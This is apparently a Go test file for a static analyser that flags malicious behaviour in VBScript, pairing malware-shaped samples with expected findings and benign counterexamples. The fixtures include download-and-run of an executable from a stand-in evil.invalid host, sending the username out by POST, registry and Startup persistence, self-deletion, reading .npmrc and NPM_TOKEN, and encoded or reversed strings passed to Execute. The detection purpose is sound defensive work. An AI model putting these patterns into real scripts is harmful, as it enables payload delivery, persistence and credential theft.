package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// vbScriptMalicious is VBScript in the shapes that malware has, with hosts that cannot
// exist.
var vbScriptMalicious = []scriptTest{
	{"a command", `Set s = CreateObject("WScript.Shell")
s.Run "cmd /c node a.js", 0, True
`, []string{
		"background: WScript.Shell.Run without a window",
		"runs-file: node a.js",
	}},
	{"PowerShell inside", `CreateObject("WScript.Shell").Run "powershell -c iwr http://evil.invalid/a", 1
`, []string{
		"inline-code: powershell -Command",
		"download: iwr http://evil.invalid/a",
		"host evil.invalid",
	}},
	{"download and start", `Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://evil.invalid/a.exe", False
h.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write h.responseBody
st.SaveToFile "C:\Temp\a.exe", 2
CreateObject("WScript.Shell").Run "C:\Temp\a.exe"
`, []string{
		"download: msxml2.xmlhttp.open http://evil.invalid/a.exe",
		"runs-file: C:/Temp/a.exe",
		"download-run: file C:/Temp/a.exe",
		"host evil.invalid",
	}},
	{"joined text", `c = Chr(110) & Chr(111) & "de" & " b.js"
CreateObject("WScript.Shell").Exec(c)
`, []string{
		"runs-file: node b.js",
	}},
	{"text that is run", `Execute StrReverse("""x"" ohcE.tpircSW")
Execute "CreateObject(""WScript.Shell"").Run ""node c.js"""
`, []string{
		"inline-code: execute",
		"decode-run: execute",
		"inline-code: execute",
		"runs-file: node c.js",
	}},
	{"start-up places", `Set w = CreateObject("WScript.Shell")
w.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x", "y", "REG_SZ"
p = w.SpecialFolders("Startup")
Set f = CreateObject("Scripting.FileSystemObject")
f.CopyFile WScript.ScriptFullName, p & "\x.vbs"
f.DeleteFile WScript.ScriptFullName
`, []string{
		"persistence: CurrentVersion/Run",
		"persistence: Programs/Startup",
		"delete: itself",
	}},
	{"the identity is sent", `u = CreateObject("WScript.Network").UserName
Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "POST", "http://evil.invalid/?u=" & u, False
h.Send u
`, []string{
		"host-identity: WScript.Network.username",
		"post: winhttp.winhttprequest.5.1.open POST http://evil.invalid/?u=*",
		"post: winhttp.winhttprequest.5.1 with data of the machine",
		"host evil.invalid",
	}},
	{"a process by WMI", `Set o = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
o.Create "node e.js", Null, Null, pid
`, []string{
		"runs-file: node e.js",
	}},
	{"branches", `If x = 1 Then
  CreateObject("WScript.Shell").Run ("node f.js"), 0, False
Else
  CreateObject("Shell.Application").ShellExecute "node", "g.js", "", "", 0
End If
`, []string{
		"runs-file: node f.js",
		"background: WScript.Shell.Run without a window",
		"background: ShellExecute without a window",
		"runs-file: node g.js",
	}},
	{"a cipher", `Function D(s)
  For i = 1 To Len(s)
    r = r & Chr(Asc(Mid(s, i, 1)) Xor 3)
  Next
  D = r
End Function
Execute D("abc")
`, []string{
		"inline-code: execute",
		"decode-run: execute",
	}},
	{"base64", `Set el = CreateObject("Microsoft.XMLDOM").createElement("t")
el.DataType = "bin.base64"
el.Text = "abcd"
ExecuteGlobal el.nodeTypedValue
`, []string{
		"inline-code: executeglobal",
		"decode-run: executeglobal",
	}},
	{"a page of two languages", `<job><script language="JScript">a()</script><script language="VBScript" src="lib/b.vbs">
CreateObject("WScript.Shell").Run _
  "node h.js"
</script></job>
`, []string{
		"runs-file: cscript bin/lib/b.vbs",
		"runs-file: node h.js",
	}},
	{"files", `Set f = CreateObject("Scripting.FileSystemObject")
Set t = f.CreateTextFile("x.bat", True)
t.WriteLine "node i.js"
t.Close
CreateObject("WScript.Shell").Run "x.bat"
Set q = f.OpenTextFile("C:\Users\a\.npmrc", 1)
MsgBox q.ReadAll
`, []string{
		"runs-file: x.bat",
		"runs-file: node i.js",
		"reads-secrets: .npmrc",
	}},
	{"the environment", `t = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%\%NPM_TOKEN%")
Set e = CreateObject("WScript.Shell").Environment("PROCESS")
x = e("USERNAME")
`, []string{
		"reads-environment: $TEMP",
		"reads-secrets: $NPM_TOKEN",
		"reads-environment: $USERNAME",
	}},
}

// vbScriptLegitimate is VBScript as packages ship it, with all that is said of each.
var vbScriptLegitimate = []scriptTest{
	{"comments and strings", `' CreateObject("WScript.Shell").Run "a"
REM Execute "x"
WScript.Echo "curl http://x.invalid"
x = "Execute"
`, nil},
	{"keys of the registry", `Set reg = GetObject("winmgmts:\root\default:StdRegProv")
Function Read(key, name)
  reg.GetStringValue &H80000002, key, name, v
  Read = v
End Function
WScript.StdOut.WriteLine Read("Software\X", "Path")
`, nil},
	{"an archive", `Set a = WScript.Arguments
Set s = CreateObject("Shell.Application")
s.NameSpace(a(1)).CopyHere s.NameSpace(a(0)).Items(), 256
`, nil},
}

// vbScriptCalls go through what is known of the libraries and the language.
var vbScriptCalls = []scriptTest{
	{"End With", `With CreateObject("WScript.Shell")
  .Run "node a.js"
End With
`, []string{
		"runs-file: node a.js",
	}},
	{"x = -1 : If x < 0 Then CreateObject(\"WSc", `x = -1 : If x < 0 Then CreateObject("WScript.Shell").Run "node b.js" Else WScript.Quit
`, []string{
		"runs-file: node b.js",
	}},
	{"Set q = s.ExecQuery(\"Select * from Win32", `GetObject("script:http://a.invalid/x.sct")
Set l = CreateObject("WbemScripting.SWbemLocator")
Set s = l.ConnectServer(".")
Set q = s.ExecQuery("Select * from Win32_BIOS")
`, []string{
		"download-run: GetObject http://a.invalid/x.sct",
		"host-identity: execquery of WMI",
		"host a.invalid",
	}},
	{"CreateObject(\"WScript.Shell\").Run c", `Select Case x
Case 1
  c = "node c.js"
Case Else
  c = "node d.js"
End Select
CreateObject("WScript.Shell").Run c
`, []string{
		"runs-file: node c.js",
		"runs-file: node d.js",
	}},
	{"Loop", `For Each f In Array("a", "b")
  CreateObject("WScript.Shell").Run f
Next
Do While x
  ExecuteGlobal y
Loop
`, []string{
		"dynamic-command: WScript.Shell.run",
		"inline-code: executeglobal",
	}},
	{"Call Go(\"node f.js\")", `Sub Go(c)
  CreateObject("WScript.Shell").Run c
End Sub
Go "node e.js"
Call Go("node f.js")
`, []string{
		"runs-file: node e.js",
		"runs-file: node f.js",
	}},
	{"s.GetFolder(\"\\\").RegisterTaskDefinition ", `CreateObject("InternetExplorer.Application").Navigate "http://a.invalid"
Set s = CreateObject("Schedule.Service")
s.GetFolder("\").RegisterTaskDefinition "x", d, 6
`, []string{
		"download: internetexplorer.application.navigate http://a.invalid",
		"persistence: registertaskdefinition",
		"host a.invalid",
	}},
}

func TestVBScript(t *testing.T) {
	checkScripts(t, LanguageVBScript, "bin/x.vbs", vbScriptMalicious)
	checkScripts(t, LanguageVBScript, "bin/x.vbs", vbScriptLegitimate)
	checkScripts(t, LanguageVBScript, "bin/x.vbs", vbScriptCalls)
}

// TestVBScriptValues goes through the expressions whose values are computed. A
// star stands for what stays unknown.
func TestVBScriptValues(t *testing.T) {
	tests := []struct{ expression, want string }{
		{`"a" & "b" + "c"`, "abc"},
		{`"it's ""x"""`, `it's "x"`},
		{`Chr(97) & ChrW(&H62) & Chr(Asc("b") + 1)`, "abc"},
		{`StrReverse("cba")`, "abc"},
		{`Replace("aXb", "X", "-")`, "a-b"},
		{`LCase("AB") & UCase("c") & Trim(" d ")`, "abCd"},
		{`Mid("abcdef", 2, 3) & Left("xyz", 1) & Right("xyz", 1)`, "bcdxz"},
		{`Join(Array("a", "b"), "-")`, "a-b"},
		{`Split("a,b", ",")(1)`, "b"},
		{`x & "-"`, "one-"},
		{`Chr(2 * 50 - 3)`, "a"},
		{`Chr(100 Xor 5)`, "a"},
		{`Chr(CLng("&H61"))`, "a"},
		{`InputBox("?")`, "*"},
		{`"a" & missing & "b"`, "a*b"},
	}
	for _, test := range tests {
		text := "Const x = \"one\"\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://h.invalid/[\" & " + test.expression + " & \"]\"\n"
		if got := fetched(ParseScript(LanguageVBScript, text, "bin/x.vbs")); got != test.want {
			t.Errorf("%s is %q, want %q", test.expression, got, test.want)
		}
	}
}

func TestVBScriptPage(t *testing.T) {
	text := "<job>\n<script language=\"JScript\">a()</script>\n<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"curl a.invalid\"</script>\n</job>"
	s := ParseScript(LanguageVBScript, text, "x.wsf")
	want := []Act{{Kind: KindDownload, Line: 3, Column: 64, Text: "curl a.invalid", Detail: "curl a.invalid"}}
	if diff := cmp.Diff(want, s.Acts); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	code := []Code{{Language: "javascript", Text: "a()", Line: 2, Column: 28}}
	if diff := cmp.Diff(code, s.Code); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}
